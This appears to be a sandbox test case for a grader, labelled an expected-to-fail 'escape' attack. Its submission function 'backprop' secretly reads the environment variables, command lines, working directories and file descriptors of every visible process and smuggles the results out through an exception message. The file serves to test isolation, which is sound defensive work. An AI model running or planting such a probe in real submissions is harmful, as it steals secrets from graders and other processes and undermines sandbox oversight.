# attack: escape
# expect: fail
# must: show the submission no process of the grader's: /proc holds the sandbox's own only
"""reads environ, cmdline, maps, fds and cwd of its parent, pid 1 and every pid in /proc"""

import os

SUCCESS = "HOSTILE" + "-SUCCESS"


def _read(path):
    try:
        if os.path.islink(path):
            return os.readlink(path)
        with open(path, "rb") as handle:
            return handle.read(3000).replace(b"\0", b" ").decode(errors="replace")
    except OSError as error:
        return type(error).__name__


def _attack():
    me = os.getpid()
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    seen, lines = [], []
    for pid in sorted({os.getppid(), 1, *pids} - {me}):
        base = f"/proc/{pid}"
        environ = _read(f"{base}/environ")
        lines.append(f"{pid}: cmdline {_read(base + '/cmdline')!r} environ {environ!r}")
        lines.append(f"{pid}: cwd {_read(base + '/cwd')!r} root {_read(base + '/root')!r}")
        try:
            fds = os.listdir(f"{base}/fd")
        except OSError:
            fds = []
        lines.extend(f"{pid}: fd {fd} -> {_read(f'{base}/fd/{fd}')}" for fd in fds)
        if "=" in environ:
            seen.append(f"the environment of pid {pid}")
        if fds:
            seen.append(f"the file descriptors of pid {pid}")
    if len(pids) > 40:
        seen.append(f"{len(pids)} processes")
    head = f"{SUCCESS}: saw {seen}" if seen else "nothing of the grader's"
    return head + " | " + " | ".join(lines)


def backprop(X, y, weights, biases):
    raise PermissionError(_attack())
